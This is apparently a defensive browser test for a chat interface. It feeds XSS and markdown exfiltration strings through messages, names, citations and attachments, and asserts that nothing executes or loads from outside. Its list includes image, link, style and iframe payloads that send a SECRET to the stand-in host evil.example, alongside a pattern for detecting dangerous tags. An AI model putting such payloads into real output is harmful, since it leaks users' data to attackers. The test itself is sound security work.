"""Hostile words in questions, answers, names and sources: shown as words, run by nobody, asked of no one."""

import json
import os
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.scripted_server import ScriptedServer
from tests.browser.steps import open_chat

pytestmark = pytest.mark.browser

LISTS = Path(os.environ.get("XSS_STRINGS") or Path(__file__).parents[3] / "shared" / "data" / "xss_strings")
AT_ONCE = 200
EXFILTRATION = [
    "![x](https://evil.example/?d=SECRET)",
    "![x][1]\n\n[1]: https://evil.example/?d=SECRET",
    "<img src=https://evil.example/?d=SECRET>",
    "<link rel=prefetch href=https://evil.example/?d=SECRET>",
    "[![x](https://evil.example/a.png)](https://evil.example/)",
    "![x](//evil.example/?d=SECRET)",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<svg><image href=https://evil.example/x.png /></svg>",
    "<audio src=https://evil.example/x autoplay>",
    "<iframe src=https://evil.example></iframe>",
]


def payloads() -> list[str]:
    """Return every hostile string there is."""
    expected = (LISTS / "dompurify_expect.jsonl").read_text().strip().split("\n")
    strings: list[str] = [json.loads(line)["payload"] for line in expected]
    strings += json.loads((LISTS / "blns.json").read_text())
    more = LISTS / "payloadbox_xss.txt"
    strings += more.read_text(errors="replace").split("\n") if more.exists() else []
    return [text for text in (*EXFILTRATION, *dict.fromkeys(strings)) if text.strip()]


def told(server: ScriptedServer, texts: list[str]) -> None:
    """Let everybody in a conversation say each of ``texts``, and cite and attach it."""
    events = server.events[server.token]
    for text in texts:
        number = len(events)
        source = {"number": 1, "title": text, "heading": text, "page": 1, "quote": text, "url": text}
        file = {"id": f"f{number}", "name": text, "media_type": text, "size": 1}
        say = {"client_id": None, "text": text}
        staff = {"author": {"name": text}, "channel": "chat", "attachments": [file]}
        reply = {"outcome": "answered", "answerer": "model", "citations": [source], "follow_ups": [text]}
        for name, data in (
            ("message.created", {"message": {"id": f"c{number}", "role": "customer", **say}}),
            ("handoff.joined", {"handoff": 1, "staff": {"name": text}}),
            ("message.created", {"message": {"id": f"s{number}", "role": "staff", **say, **staff}}),
            ("handoff.finished", {"handoff": 1, "end": "released"}),
            (
                "answer.finished",
                {
                    "answer": f"a{number}",
                    "message": {
                        "id": f"m{number}",
                        "role": "assistant",
                        **say,
                        "text": f"{text} [1]",
                        **reply,
                    },
                },
            ),
        ):
            event = {"type": "event", "seq": len(events) + 1, "event": name, "at": "2026-01-01T00:00:00Z"}
            events.append({**event, "data": data})


HARM = """() => {
  const said = document.querySelectorAll("[role=log] *, .cards *, .next *, .running *");
  const bad = /^(?:SCRIPT|IFRAME|OBJECT|EMBED|STYLE|VIDEO|AUDIO|IMG|IMAGE|LINK|META|BASE|FORM)$/i;
  const followed = /^(?:https?:[/][/]|mailto:|[/](?![/]))/i;
  const harmful = ({ name, value }) => /^(?:on|style$|src|srcdoc$|formaction$)/i.test(name)
    || (name === "href" && !followed.test(value));
  return [...said].flatMap((node) => [
    ...(bad.test(node.tagName) ? [node.outerHTML] : []),
    ...[...node.attributes].filter(harmful).map(({ name, value }) => `${name}=${value}`),
  ]);
}"""


def test_hostile_words_run_nothing_and_load_nothing(page: Page, server: ScriptedServer) -> None:
    if not LISTS.is_dir():
        pytest.skip(f"the lists of hostile strings are not at {LISTS}; name their folder in XSS_STRINGS")
    texts = payloads()
    foreign: list[str] = []
    page.on("request", lambda request: foreign.append(request.url))
    page.on("dialog", lambda dialog: foreign.append(f"dialog {dialog.message}"))
    page.add_init_script(
        "window.ran = []; for (const name of ['alert', 'confirm', 'prompt', 'print']) "
        "window[name] = () => ran.push(name);"
    )
    open_chat(page, server)

    for start in range(0, len(texts), AT_ONCE):
        batch = texts[start : start + AT_ONCE]
        server.events[server.token].clear()
        page.evaluate("localStorage.clear()")
        page.reload()
        expect(page.locator(".suggestion").first).to_be_visible()
        told(server, batch)
        server.cut()
        page.evaluate("dispatchEvent(new Event('online'))")
        expect(page.locator(".message.customer")).to_have_count(len(batch))
        expect(page.locator(".message.assistant")).to_have_count(len(batch))
        shown = page.locator(".message.customer .text").all_text_contents()
        assert shown == batch
        assert page.evaluate(HARM) == []

    assert page.evaluate("ran") == []
    own = (server.url, f"ws://127.0.0.1:{server.port}", "blob:", "data:")
    assert [url for url in foreign if not url.startswith(own)] == []
    assert len(texts) > 600
